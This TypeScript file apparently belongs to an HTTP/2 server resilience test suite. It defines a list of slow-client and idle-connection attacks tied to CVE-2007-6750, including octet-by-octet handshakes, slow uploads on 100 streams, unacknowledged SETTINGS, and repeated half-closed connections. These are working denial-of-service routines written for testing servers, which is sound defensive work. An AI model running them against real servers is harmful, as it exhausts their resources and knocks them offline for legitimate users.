import { CLIENT_PREFACE } from '@h2lab/mini-http2/frames'
import { clientHello } from '../wire/client-hello'
import { data, headers, type Octets, settings } from '../wire/frames'
import type { HostileConnection } from '../wire/hostile-connection'
import type { Attack } from './attack'
import { floodOfStreams, hold, streams } from './floods'
import type { Hostile } from './hostile'

/*
 * Clients that are slow at one stage, or gone and not quite.
 */

const SLOW = 'CVE-2007-6750'

async function octetByOctet(
  host: Hostile,
  connection: HostileConnection,
  octets: Octets,
): Promise<void> {
  for (const octet of octets) {
    if (!(await connection.send(Uint8Array.of(octet)))) return
    if (!(await host.sleep(100))) return
  }
  await hold(connection)
}

export const SLOW_CLIENTS: readonly Attack[] = [
  {
    name: 'slow-client-hello',
    advisory: SLOW,
    sends: 'A TLS ClientHello, an octet each 100 ms.',
    needs: ['tls'],
    run: async (host) => octetByOctet(host, await host.tcp(), clientHello()),
  },
  {
    name: 'slow-preface',
    advisory: SLOW,
    sends: 'The client preface, an octet each 100 ms.',
    run: async (host) => octetByOctet(host, await host.secure(), CLIENT_PREFACE),
  },
  {
    name: 'slow-request',
    advisory: SLOW,
    sends: 'A request, an octet each 100 ms.',
    async run(host) {
      await octetByOctet(host, await host.open(), headers(1, host.request()))
    },
  },
  {
    name: 'slow-body',
    advisory: SLOW,
    sends: 'Uploads on 100 streams, an octet each 100 ms.',
    async run(host) {
      const connection = await host.open()
      const block = host.request('/echo', 'POST')
      for (let streamId = 1; streamId < 200; streamId += 2) {
        await connection.send(headers(streamId, block, { end: false }))
      }
      for (let streamId = 1; await host.sleep(100); streamId = (streamId + 2) % 200) {
        if (!(await connection.send(data(streamId, Uint8Array.of(0x61))))) return
      }
    },
  },
  {
    name: 'slow-reading',
    advisory: SLOW,
    sends: 'A request for 10 MiB, read for a moment each 100 ms.',
    needs: ['application'],
    async run(host) {
      const connection = await host.open({ reads: false })
      await connection.send(headers(1, host.request('/large')))
      while (connection.isOpen && (await host.sleep(100))) await connection.received()
    },
  },
  {
    name: 'slow-settings',
    advisory: SLOW,
    sends: 'The client preface, and never an acknowledgement of SETTINGS.',
    async run(host) {
      const connection = await host.secure()
      connection.resume()
      await connection.send(CLIENT_PREFACE, settings())
      await hold(connection)
    },
  },
  {
    name: 'slow-handlers',
    advisory: SLOW,
    sends: 'Requests on 127 streams whose handlers take 20 s.',
    needs: ['application', 'waiting-handlers'],
    async run(host) {
      const connection = await host.open()
      const block = host.request('/slow')
      await connection.send(...streams(127, (streamId) => headers(streamId, block)))
      await hold(connection)
    },
  },
  {
    name: 'handler-errors',
    advisory: 'CWE-401',
    sends: 'Requests whose handlers throw.',
    needs: ['application'],
    async run(host) {
      const block = host.request('/throws')
      await floodOfStreams(host, await host.open(), (streamId) => headers(streamId, block))
    },
  },
  {
    name: 'idle',
    advisory: 'RFC 9113 section 9.1',
    sends: 'A request, then silence.',
    async run(host) {
      const connection = await host.open()
      await connection.send(headers(1, host.request()))
      await hold(connection)
    },
  },
  {
    name: 'idle-tcp',
    advisory: SLOW,
    sends: 'Nothing at all.',
    run: async (host) => hold(await host.tcp()),
  },
  {
    name: 'half-closed',
    advisory: 'RFC 9293 section 3.6',
    sends: 'SETTINGS with windows of zero, a request and FIN, ever again on a new connection.',
    async run(host) {
      // Several at once of each: the server keeps what it does not let go.
      for (let opened = 0; !host.stopped && opened < (host.below ? 1 : 100); opened++) {
        const connection = await host.open({ window: 'none' })
        await connection.send(headers(1, host.request()))
        connection.halfClose()
        if (!(await host.sleep(30))) return
        connection.close()
      }
      while (await host.sleep(1000));
    },
  },
]
